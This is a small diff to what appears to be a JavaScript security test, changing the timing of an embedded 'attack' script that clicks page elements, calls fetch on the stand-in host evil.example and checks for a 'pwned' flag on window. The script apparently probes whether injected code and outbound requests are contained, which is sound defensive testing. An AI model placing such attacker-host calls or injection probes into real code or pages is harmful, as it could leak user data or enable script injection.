@@ -48,7 +48,7 @@ const attack = `(async () => {
   host.querySelector('b').click()
   host.querySelector('button').click()
   await fetch('https://evil.example/').catch(() => {})
-  await new Promise((resolve) => setTimeout(resolve, 200))
+  for (let i = 0; i < 60 && new Set(seen).size < 6; i++) await new Promise((resolve) => setTimeout(resolve, 50))
   return { seen, pwned: 'pwned' in window }
 })()`
 
